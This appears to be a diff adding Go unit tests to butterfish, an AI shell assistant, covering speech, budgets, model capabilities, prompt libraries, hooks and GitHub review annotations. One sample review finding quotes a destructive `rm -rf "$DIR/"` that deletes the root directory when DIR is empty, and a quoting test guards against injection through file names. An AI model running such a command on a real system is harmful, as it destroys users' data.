+	assert.Equal(t, 72, parseTmuxPaneWidth("72\n", 100))
+	assert.Equal(t, 100, parseTmuxPaneWidth("", 100))
+	assert.Equal(t, 100, parseTmuxPaneWidth("0\n", 100))
+	assert.Equal(t, 100, parseTmuxPaneWidth("no such pane", 100))
+
+	// popups are sized relative to the terminal
+	answers := &TmuxAnswers{Mode: TmuxModePopup}
+	assert.Equal(t, 80, answers.Width(100))
+
+	_, err := NewTmuxAnswers("window")
+	assert.ErrorContains(t, err, "Unknown tmux mode")
+	t.Setenv("TMUX", "")
+	_, err = NewTmuxAnswers(TmuxModePane)
+	assert.ErrorContains(t, err, "not running inside tmux")
+}
+
+func TestAccessibleMode(t *testing.T) {
+	out := &bytes.Buffer{}
+	shell := &ShellState{
+		Butterfish: &ButterfishCtx{Config: &ButterfishConfig{Accessible: true}},
+		ParentOut:  out,
+		State:      stateNormal,
+	}
+
+	// answers are between marker lines, once per response
+	shell.setState(statePromptResponse)
+	fmt.Fprint(out, "Use ls -la.")
+	shell.setState(stateNormal)
+	shell.setState(statePromptResponse)
+	shell.markAnswerEnd()
+	shell.markAnswerEnd()
+	assert.Equal(t, "\r\n[butterfish answer]\r\nUse ls -la.\r\n[end of answer]\r\n", out.String())
+	assert.Equal(t, "\r\n", shell.ownLinePrefix())
+
+	// without it nothing is marked and annotations overwrite the prompt line
+	out.Reset()
+	shell.Butterfish.Config.Accessible = false
+	shell.setState(stateNormal)
+	shell.setState(statePromptResponse)
+	shell.markAnswerEnd()
+	assert.Equal(t, "", out.String())
+	assert.Equal(t, "\r\x1b[K", shell.ownLinePrefix())
+}
+
+func TestLanguage(t *testing.T) {
+	assert.Equal(t, "pt-BR", prompt.NormalizeLocale("pt_BR.UTF-8"))
+	assert.Equal(t, "", prompt.NormalizeLocale("C.UTF-8"))
+	env := map[string]string{"LANG": "es_MX.UTF-8"}
+	assert.Equal(t, "es-MX", resolveLanguage(LanguageAuto, func(name string) string { return env[name] }))
+	assert.Equal(t, "Spanish (es-MX)", languageName("es-MX"))
+
+	// variants by exact locale, then base language, then the prompt
+	p := prompt.Prompt{Prompt: "Hello {name}", Translations: map[string]string{"es": "Hola {name}", "pt-BR": "Olá {name}"}}
+	assert.Equal(t, "Hola {name}", p.Localized("es-MX"))
+	assert.Equal(t, "Olá {name}", p.Localized("pt_BR"))
+	assert.Equal(t, "Hello {name}", p.Localized("pt-PT"))
+	assert.Equal(t, "Hello {name}", p.Localized(""))
+
+	library := prompt.NewPromptLibrary(filepath.Join(t.TempDir(), "prompts.yaml"), false, io.Discard)
+	library.ReplacePrompts(prompt.DefaultPrompts)
+	library.Language = "es"
+	butterfish := &ButterfishCtx{Ctx: context.Background(), PromptLibrary: library, Config: &ButterfishConfig{Language: "es"}}
+	contextEnv := NewContextEnv(context.Background(), "bash", func() string { return t.TempDir() })
+	sysMsg, err := butterfish.systemMessage(prompt.PromptSystemMessage, contextEnv)
+	assert.Nil(t, err)
+	assert.Contains(t, sysMsg, "Eres un asistente")
+	assert.Contains(t, sysMsg, "Answer in Spanish")
+
+	// prompts without a variant use the default, and English adds no note
+	promptStr, err := library.GetPrompt(prompt.PromptCommitMessage, "diff", "x")
+	assert.Nil(t, err)
+	assert.NotContains(t, promptStr, "Eres")
+	assert.Equal(t, "", languageSystemNote("en-US"))
+	assert.Equal(t, "", languageSystemNote(""))
+}
+
+func TestSpeechPrompt(t *testing.T) {
+	installed := func(names ...string) func(string) (string, error) {
+		return func(name string) (string, error) {
+			if slices.Contains(names, name) {
+				return "/usr/bin/" + name, nil
+			}
+			return "", errors.New("not found")
+		}
+	}
+	args, err := recorderCommand("/tmp/a.wav", nil, installed("arecord", "ffmpeg"))
+	assert.Nil(t, err)
+	assert.Equal(t, "arecord", args[0])
+	assert.Equal(t, "/tmp/a.wav", args[len(args)-1])
+	_, err = recorderCommand("/tmp/a.wav", nil, installed())
+	assert.NotNil(t, err)
+	args, err = recorderCommand("/tmp/it's.wav", &SpeechConfig{RecordCommand: "parec {file}"}, installed())
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"sh", "-c", `parec '/tmp/it'\''s.wav'`}, args)
+	assert.NotNil(t, (&SpeechConfig{TranscribeCommand: "whisper-cli"}).Validate())
+
+	audio := filepath.Join(t.TempDir(), "prompt.wav")
+	os.WriteFile(audio, make([]byte, 100), 0644)
+
+	// the API gets the audio and the language
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.True(t, strings.HasSuffix(r.URL.Path, "/audio/transcriptions"))
+		assert.Equal(t, "whisper-1", r.FormValue("model"))
+		assert.Equal(t, "es", r.FormValue("language"))
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprint(w, `{"text":" encuentra archivos grandes "}`)
+	}))
+	defer server.Close()
+	usage := NewSessionUsage()
+	tracking := NewUsageTrackingLLM(NewGPT("sk-test", server.URL), usage)
+	tracking.Budget = NewSessionBudget(&BudgetConfig{HardLimit: 1}, usage)
+	butterfish := &ButterfishCtx{
+		Config:    &ButterfishConfig{Language: "es-MX"},
+		LLMClient: NewRoutingLLM(tracking, &RoutingConfig{}),
+	}
+	text, err := butterfish.transcribe(context.Background(), audio)
+	assert.Nil(t, err)
+	assert.Equal(t, "encuentra archivos grandes", text)
+	// through the wrapped client, so the budget applies
+	usage.Cost = 2
+	_, err = butterfish.transcribe(context.Background(), audio)
+	assert.ErrorIs(t, err, ErrBudgetReached)
+	_, err = transcribeWith(&fakeLLM{}, context.Background(), audio, "whisper-1", "")
+	assert.ErrorContains(t, err, "transcribe_command")
+
+	// a local command's timestamps are dropped
+	butterfish.Config.Speech = &SpeechConfig{TranscribeCommand: `test -f {file} && printf '[00:00:00.000 --> 00:00:02.000]  find large\n[00:00:02.000 --> 00:00:03.000]  files\n'`}
+	text, err = butterfish.transcribe(context.Background(), audio)
+	assert.Nil(t, err)
+	assert.Equal(t, "find large files", text)
+
+	// cancelling stops what a record_command started too, otherwise it would
+	// hold stderr open
+	recording, err := startRecording(context.Background(), &SpeechConfig{RecordCommand: "sleep 5 & touch {file}; wait"})
+	assert.Nil(t, err)
+	assert.Eventually(t, func() bool {
+		_, err := os.Stat(recording.Path)
+		return err == nil
+	}, time.Second, 10*time.Millisecond)
+	start := time.Now()
+	recording.Cancel()
+	assert.Less(t, time.Since(start), time.Second)
+}
+
+func TestSpeakAnswers(t *testing.T) {
+	answer := "## Disk usage\nRun this to see **large** files, see [the docs](https://example.com):\n```bash\ndu -sh * | sort -h\n```\n- then delete what you don't need"
+	assert.Equal(t, "Disk usage Run this to see large files, see the docs: then delete what you don't need", speakableText(answer, 600))
+	assert.Equal(t, "", speakableText(answer, 20))
+	assert.Equal(t, "", speakableText("```\nls\n```", 600))
+
+	installed := func(name string) (string, error) {
+		if name == "espeak" || name == "aplay" {
+			return "/usr/bin/" + name, nil
+		}
+		return "", errors.New("not found")
+	}
+	args, err := speakCommand(nil, installed)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"espeak", "--stdin"}, args)
+	args, err = playerCommand("/tmp/a.wav", installed)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"aplay", "-q", "/tmp/a.wav"}, args)
+	assert.NotNil(t, (&SpeechConfig{TTS: "robot"}).Validate())
+
+	// a speak command gets the text on stdin
+	spoken := filepath.Join(t.TempDir(), "spoken.txt")
+	butterfish := &ButterfishCtx{Ctx: context.Background(), Config: &ButterfishConfig{
+		Speech: &SpeechConfig{SpeakCommand: "cat > " + spoken}}}
+	assert.Nil(t, butterfish.speak(context.Background(), "hello there"))
+	data, _ := os.ReadFile(spoken)
+	assert.Equal(t, "hello there", string(data))
+
+	// stopping a speak command stops what it started
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+	butterfish.Config.Speech.SpeakCommand = "sleep 5 & wait"
+	start := time.Now()
+	assert.Nil(t, butterfish.speak(ctx, "hello there"))
+	assert.Less(t, time.Since(start), time.Second)
+
+	// the speech API's audio is saved for the player
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		assert.True(t, strings.HasSuffix(r.URL.Path, "/audio/speech"))
+		assert.Contains(t, string(body), `"voice":"nova"`)
+		assert.Contains(t, string(body), `"response_format":"wav"`)
+		w.Header().Set("Content-Type", "audio/wav")
+		w.Write([]byte("RIFF audio"))
+	}))
+	defer server.Close()
+	butterfish.Config = &ButterfishConfig{OpenAIToken: "sk-test", BaseURL: server.URL,
+		Speech: &SpeechConfig{TTS: TTSAPI, Voice: "nova"}}
+	audio := filepath.Join(t.TempDir(), "answer.wav")
+	assert.Nil(t, butterfish.synthesizeSpeech(context.Background(), "hello there", audio))
+	data, _ = os.ReadFile(audio)
+	assert.Equal(t, "RIFF audio", string(data))
+}
+
+func TestSessionBudget(t *testing.T) {
+	assert.NotNil(t, (&BudgetConfig{SoftLimit: 5, HardLimit: 1}).Validate())
+	assert.Nil(t, (&BudgetConfig{SoftLimit: 1}).Validate())
+
+	usage := NewSessionUsage()
+	budget := NewSessionBudget(&BudgetConfig{SoftLimit: 0.5, HardLimit: 1}, usage)
+	llm := &fakeLLM{responses: []string{"one", "two"}}
+	tracking := NewUsageTrackingLLM(llm, usage)
+	tracking.Budget = budget
+
+	request := &util.CompletionRequest{Ctx: context.Background(), Prompt: "hi", Model: "gpt-4o"}
+	_, err := tracking.Completion(request)
+	assert.Nil(t, err)
+	assert.Equal(t, "", budget.SoftLimitWarning())
+
+	// over the soft limit warns once, over the hard limit refuses calls
+	usage.Cost = 0.75
+	assert.Contains(t, budget.SoftLimitWarning(), "over the $0.50 soft limit")
+	assert.Equal(t, "", budget.SoftLimitWarning())
+	usage.Cost = 1.25
+	_, err = tracking.Completion(request)
+	assert.ErrorContains(t, err, "!budget override")
+	_, err = tracking.Embeddings(&util.EmbeddingRequest{})
+	assert.NotNil(t, err)
+	assert.Equal(t, 1, llm.calls)
+
+	budget.Override()
+	_, err = tracking.Completion(request)
+	assert.Nil(t, err)
+	assert.Equal(t, 2, llm.calls)
+	assert.Contains(t, budget.String(), "hard limit: $1.00 (overridden)")
+
+	// limits swapped on reload while requests are checked, run with -race
+	done := make(chan bool)
+	go func() {
+		defer close(done)
+		for i := 0; i < 100; i++ {
+			budget.Check()
+		}
+	}()
+	for i := 0; i < 100; i++ {
+		budget.SetConfig(&BudgetConfig{HardLimit: float64(i + 1)})
+	}
+	<-done
+	assert.Contains(t, budget.String(), "hard limit: $100.00")
+
+	// no limits set
+	var none *SessionBudget
+	assert.Nil(t, none.Check())
+	assert.Contains(t, NewSessionBudget(nil, usage).String(), "no limits")
+}
+
+func TestModelCapabilities(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.Equal(t, "/v1/models", r.URL.Path)
+		assert.Equal(t, "Bearer token", r.Header.Get("Authorization"))
+		fmt.Fprint(w, `{"data": [
+			{"id": "gpt-4o"},
+			{"id": "vendor/text-model", "context_length": 32000,
+			 "architecture": {"input_modalities": ["text"]}, "supported_parameters": ["tools"]},
+			{"id": "unknown-model"}]}`)
+	}))
+	defer server.Close()
+
+	saved := capabilities
+	defer func() { capabilities = saved }()
+	capabilities = &CapabilityRegistry{Path: filepath.Join(t.TempDir(), "models.json")}
+
+	// before the list is fetched the built in table is used
+	assert.True(t, capabilities.Stale(server.URL+"/v1"))
+	assert.NotNil(t, checkVisionModel("gpt-3.5-turbo-0125"))
+	assert.Nil(t, checkVisionModel("gpt-4o-2024-08-06"))
+	assert.Nil(t, checkVisionModel("some-new-model"))
+	assert.False(t, supportsJSONMode("gpt-3.5-turbo-instruct"))
+	assert.NotNil(t, checkEmbeddingDims("text-embedding-3-small", 2048))
+	assert.Nil(t, checkEmbeddingDims("text-embedding-3-small", 512))
+
+	count, err := capabilities.Refresh(context.Background(), server.URL+"/v1/", "token")
+	assert.Nil(t, err)
+	assert.Equal(t, 2, count)
+	assert.False(t, capabilities.Stale(server.URL+"/v1"))
+	assert.True(t, capabilities.Stale(""))
+
+	caps, ok := ModelCapabilitiesFor("vendor/text-model")
+	assert.True(t, ok)
+	assert.Equal(t, &ModelCapabilities{ContextTokens: 32000, Tools: true}, caps)
+	assert.Equal(t, 32000, NumTokensForModel("vendor/text-model"))
+	assert.ErrorContains(t, checkVisionModel("vendor/text-model"), "can't read images")
+	assert.Nil(t, checkToolsModel("vendor/text-model"))
+	assert.Contains(t, formatCapabilities(capabilities.Models()), "vendor/text-model")
+
+	// the cache is read back from disk
+	reloaded := &CapabilityRegistry{Path: capabilities.Path}
+	caps, ok = reloaded.Lookup("gpt-4o")
+	assert.True(t, ok)
+	assert.True(t, caps.Vision)
+	entries, err := os.ReadDir(filepath.Dir(capabilities.Path))
+	assert.Nil(t, err)
+	assert.Equal(t, 1, len(entries))
+
+	// a stale list is refreshed in the background once per process
+	assert.True(t, reloaded.startRefresh(""))
+	assert.False(t, reloaded.startRefresh(""))
+
+	// without a path nothing is read or written, or refreshed in the
+	// background
+	memory := &CapabilityRegistry{}
+	_, ok = memory.Lookup("vendor/text-model")
+	assert.False(t, ok)
+	assert.False(t, memory.startRefresh(""))
+	count, err = memory.Refresh(context.Background(), server.URL+"/v1/", "token")
+	assert.Nil(t, err)
+	assert.Equal(t, 2, count)
+	_, ok = memory.Lookup("vendor/text-model")
+	assert.True(t, ok)
+
+	image := filepath.Join(t.TempDir(), "screenshot.png")
+	os.WriteFile(image, []byte("png"), 0644)
+	url, err := imageDataURL(image)
+	assert.Nil(t, err)
+	assert.Equal(t, "data:image/png;base64,cG5n", url)
+	_, err = imageDataURL("notes.txt")
+	assert.ErrorContains(t, err, "isn't an image")
+}
+
+func TestCompressTexts(t *testing.T) {
+	tokenizer := NewApproxTokenizer(4)
+	assert.Equal(t, []string{"Hello there. ", "How are you?\n", "ok"}, splitSentences("Hello there. How are you?\nok"))
+
+	short := []string{"short text"}
+	assert.Equal(t, short, CompressTexts(short, "", 100, tokenizer))
+
+	boilerplate := strings.Repeat("This file is part of the project.\n", 10)
+	snippet := boilerplate + "Retries use exponential backoff with max_retries set in retry.yaml.\n" + boilerplate
+	compressed := CompressTexts([]string{snippet, "Unrelated notes about the logo colour."}, "how are retries configured?", 30, tokenizer)
+	assert.Contains(t, compressed[0], "Retries use exponential backoff")
+	assert.Contains(t, compressed[0], "...\n")
+	// repeats are kept at most once
+	assert.LessOrEqual(t, strings.Count(compressed[0], "This file is part"), 1)
+	total := tokenizer.CountTokens(strings.Join(compressed, ""))
+	assert.Less(t, total, tokenizer.CountTokens(snippet))
+
+	// long history blocks are compressed before they're truncated
+	compressing := &CompressingTokenizer{Tokenizer: tokenizer}
+	assert.Equal(t, "approx_4+compressed", compressing.Name())
+	output := strings.Repeat("ok\n", 50) + "error: missing module github.com/foo/bar\n"
+	assert.Contains(t, compressing.Compress(output, 20), "missing module")
+
+	// the error is past the block ceiling, it's kept when compressing but
+	// cut off otherwise
+	steps := strings.Repeat("compiling package\nlinking package\n", 20)
+	history := NewShellHistory()
+	history.Append(historyTypeShellOutput, steps+"error: missing module github.com/foo/bar\n")
+	_, blocks, err := assembleChat("prompt", "sys", "", history, "gpt-4o", compressing, 100, 30, 1000)
+	assert.Nil(t, err)
+	assert.Equal(t, 1, len(blocks))
+	assert.Contains(t, blocks[0].Content, "missing module")
+	_, blocks, err = assembleChat("prompt", "sys", "", history, "gpt-4o", tokenizer, 100, 30, 1000)
+	assert.Nil(t, err)
+	assert.NotContains(t, blocks[0].Content, "missing module")
+}
+
+func TestHeadless(t *testing.T) {
+	out := bytes.Buffer{}
+	writer := NewPlainWriter(&out)
+	// escapes split across writes are still dropped
+	writer.Write([]byte("\x1b[38;5;1mred\x1b["))
+	writer.Write([]byte("0m plain \x1b]1337;SetUserVar=a=b\a"))
+	writer.Write([]byte("done\x1b7\n"))
+	assert.Equal(t, "red plain done\n", out.String())
+
+	config := MakeButterfishConfig()
+	config.Headless = true
+	ctx := &ButterfishCtx{Config: config, Out: &bytes.Buffer{}}
+	ok, err := ctx.confirm("Run ls?")
+	assert.False(t, ok)
+	assert.ErrorIs(t, err, ErrConfirmationRequired)
+	assert.Equal(t, ExitConfirmation, ExitCode(err))
+	assert.ErrorIs(t, ctx.editFile("", "message.txt"), ErrConfirmationRequired)
+	_, err = ctx.micPrompt()
+	assert.ErrorIs(t, err, ErrConfirmationRequired)
+
+	assert.Equal(t, ExitOK, ExitCode(nil))
+	assert.Equal(t, ExitFailed, ExitCode(errors.New("no such file")))
+	assert.Equal(t, ExitProvider, ExitCode(fmt.Errorf("prompt: %w", &openai.APIError{HTTPStatusCode: 500})))
+	assert.Equal(t, ExitProvider, ExitCode(context.DeadlineExceeded))
+	budget := NewSessionBudget(&BudgetConfig{HardLimit: 1}, &SessionUsage{Cost: 2})
+	assert.Equal(t, ExitBudget, ExitCode(budget.Check()))
+}
+
+func TestGitHubAnnotations(t *testing.T) {
+	issues := `1. **Line 12** (high): rm -rf "$DIR/" deletes / if DIR is empty,
+   check it first.
+2. Line 3, medium: use "$@" rather than $*, 100% of the time
+3. Low severity: no shebang`
+
+	parsed := parseReviewIssues(issues)
+	assert.Equal(t, 3, len(parsed))
+	assert.Equal(t, 12, parsed[0].Line)
+	assert.Equal(t, "high", parsed[0].Severity)
+	assert.Equal(t, "medium", parsed[1].Severity)
+	assert.Equal(t, "low", parsed[2].Severity)
+	assert.Equal(t, 0, parsed[2].Line)
+
+	// the words on their own aren't a severity
+	parsed = parseReviewIssues("1. Line 4: the loop has a low limit and high cost\n" +
+		"2. Line 9 - severity: **Medium** - quote $HOME")
+	assert.Equal(t, "", parsed[0].Severity)
+	assert.Equal(t, "medium", parsed[1].Severity)
+
+	out := bytes.Buffer{}
+	writeReviewAnnotations(&out, "ci/deploy,prod.sh", issues)
+	assert.Equal(t, `::error file=ci/deploy%2Cprod.sh,line=12,title=butterfish review::**Line 12** (high): rm -rf "$DIR/" deletes / if DIR is empty,%0Acheck it first.
+::warning file=ci/deploy%2Cprod.sh,line=3,title=butterfish review::Line 3, medium: use "$@" rather than $*, 100%25 of the time
+::notice file=ci/deploy%2Cprod.sh,title=butterfish review::Low severity: no shebang
+`, out.String())
+
+	out.Reset()
+	writeGitHubAnnotation(&out, "notice", "", 0, "Summary", "piped input")
+	assert.Equal(t, "::notice title=Summary::piped input\n", out.String())
+}
+
+func TestHooks(t *testing.T) {
+	assert.Error(t, (&HooksConfig{GoalFailed: []*Hook{{}}}).Validate())
+	assert.Error(t, (&HooksConfig{GoalFailed: []*Hook{{Exec: "true", Webhook: "http://localhost"}}}).Validate())
+
+	posted := make(chan *HookEvent, 1)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		event := &HookEvent{}
+		json.NewDecoder(r.Body).Decode(event)
+		posted <- event
+	}))
+	defer server.Close()
+
+	config := &HooksConfig{GoalComplete: []*Hook{{Webhook: server.URL}}}
+	assert.NoError(t, config.Validate())
+	ctx := &ButterfishCtx{Ctx: context.Background(), Config: &ButterfishConfig{Hooks: config}}
+	// no hooks for this event
+	ctx.fireHooks(hookGoalFailed, "build it", "gave up")
+	ctx.fireHooks(hookGoalComplete, "build it", "Exited goal mode with SUCCESS.")
+	event := <-posted
+	assert.Equal(t, hookGoalComplete, event.Event)
+	assert.Equal(t, "build it", event.Goal)
+	assert.Equal(t, "butterfish goal complete: build it\nExited goal mode with SUCCESS.", event.Text)
+
+	out := filepath.Join(t.TempDir(), "hook.txt")
+	hook := &Hook{Exec: `echo "$BUTTERFISH_EVENT $BUTTERFISH_MESSAGE" > ` + out + ` && cat >> ` + out}
+	err := runHook(context.Background(), hook, newHookEvent(hookGoalConfirm, "deploy", "Run this command? make deploy"))
+	assert.NoError(t, err)
+	written, _ := os.ReadFile(out)
+	assert.Contains(t, string(written), "goal_confirm Run this command? make deploy\n{\"event\":\"goal_confirm\"")
+}
+
+func TestStore(t *testing.T) {
+	store := storage.NewMemoryStore()
+	library, err := NewDiskPromptLibrary("/config/prompts.yaml", false, io.Discard, store)
+	assert.NoError(t, err)
+	assert.True(t, library.LibraryFileExists())
+	_, err = os.Stat("/config/prompts.yaml")
+	assert.True(t, os.IsNotExist(err))
+
+	// a customized prompt isn't replaced by the default
+	library.Prompts[0].Prompt = "custom"
+	library.Prompts[0].OkToReplace = false
+	assert.NoError(t, library.Save())
+	reloaded, err := NewDiskPromptLibrary("/config/prompts.yaml", false, io.Discard, store)
+	assert.NoError(t, err)
+	assert.Equal(t, "custom", reloaded.Prompts[0].Prompt)
+
+	// prompt usage is kept in the store too
+	library.Usage.RecordInvocation(prompt.PromptSummarize)
+	assert.NoError(t, library.Usage.Flush())
+	_, err = store.Get(context.Background(), "/config/prompts_usage.json")
+	assert.NoError(t, err)
+	_, err = os.Stat("/config/prompts_usage.json")
+	assert.True(t, os.IsNotExist(err))
+
+	transcript := &Transcript{Shell: "zsh", Entries: []TranscriptEntry{{Type: "prompt", Content: "hi"}}}
+	assert.NoError(t, transcript.SaveTo(store, "/config/last_session.json", nil))
+	loaded, err := LoadTranscriptFrom(store, "/config/last_session.json", nil)
+	assert.NoError(t, err)
+	assert.Equal(t, transcript.Entries, loaded.Entries)
+}
+
+func TestMemoryPromptLibrary(t *testing.T) {
+	config := MakeButterfishConfig()
+	config.NoPromptFile = true
+	config.PromptLibraryPath = "/nonexistent/prompts.yaml"
+	library, err := initPromptLibrary(config)
+	assert.NoError(t, err)
+	memoryLibrary := library.(*prompt.MemoryPromptLibrary)
+
+	summarize, err := library.GetUninterpolatedPrompt(prompt.PromptSummarize)
+	assert.NoError(t, err)
+	assert.NotEmpty(t, summarize)
+
+	// a set prompt shadows the default without changing DefaultPrompts
+	memoryLibrary.SetPrompt(prompt.Prompt{Name: prompt.PromptSummarize, Prompt: "custom {content}"})
+	custom, err := library.GetPrompt(prompt.PromptSummarize, "content", "text")
+	assert.NoError(t, err)
+	assert.Equal(t, "custom text", custom)
+	assert.Equal(t, len(prompt.DefaultPrompts), len(memoryLibrary.Prompts()))
+	for _, defaultPrompt := range prompt.DefaultPrompts {
+		assert.NotEqual(t, "custom {content}", defaultPrompt.Prompt)
+	}
+
+	memoryLibrary.DeletePrompt(prompt.PromptSummarize)
+	restored, err := library.GetUninterpolatedPrompt(prompt.PromptSummarize)
+	assert.NoError(t, err)
+	assert.Equal(t, summarize, restored)
+
+	_, err = library.GetPrompt("missing")
+	assert.Error(t, err)
+}
+
+func TestDiskPromptLibraryConcurrentSave(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "prompts.yaml")
+	libraries := []*prompt.DiskPromptLibrary{}
+	for i := 0; i < 2; i++ {
+		library, err := NewDiskPromptLibrary(path, false, io.Discard, nil)
+		assert.NoError(t, err)
+		libraries = append(libraries, library)
+	}
+
+	// two shells saving the same file while prompts are read and replaced
+	wait := sync.WaitGroup{}
+	for _, library := range libraries {
+		for i := 0; i < 10; i++ {
+			wait.Add(2)
+			go func(library *prompt.DiskPromptLibrary) {
+				defer wait.Done()
+				assert.NoError(t, library.Save())
+			}(library)
+			go func(library *prompt.DiskPromptLibrary) {
+				defer wait.Done()
+				library.ReplacePrompts(prompt.DefaultPrompts)
+				_, err := library.GetUninterpolatedPrompt(prompt.PromptSummarize)
+				assert.NoError(t, err)
+			}(library)
+		}
+	}
+	wait.Wait()
+
+	loaded := prompt.NewPromptLibrary(path, false, io.Discard)
+	assert.NoError(t, loaded.Load())
+	assert.Equal(t, len(prompt.DefaultPrompts), len(loaded.Prompts))
+	// no temporary files are left behind, only the lock file
+	files, err := os.ReadDir(filepath.Dir(path))
+	assert.NoError(t, err)
+	assert.Len(t, files, 2)
+
+	// each shell's changes are kept when the other saves
+	first, second := libraries[0], libraries[1]
+	assert.NoError(t, first.Load())
+	assert.NoError(t, second.Load())
+	first.ReplacePrompts([]prompt.Prompt{{Name: "first", Prompt: "from the first shell"}})
+	assert.NoError(t, first.Save())
+	second.ReplacePrompts([]prompt.Prompt{{Name: "second", Prompt: "from the second shell"}})
+	second.SyncPrompts([]prompt.Prompt{{Name: prompt.PromptSummarize, Prompt: "synced {content}"}}, "team")
+	assert.NoError(t, second.Save())
+	assert.NoError(t, first.Save())
+
+	assert.NoError(t, loaded.Load())
+	for _, name := range []string{"first", "second"} {
+		assert.NotEqual(t, -1, loaded.ContainsPromptNamed(name))
+	}
+	summarize, err := loaded.GetUninterpolatedPrompt(prompt.PromptSummarize)
+	assert.NoError(t, err)
+	assert.Equal(t, "synced {content}", summarize)
+}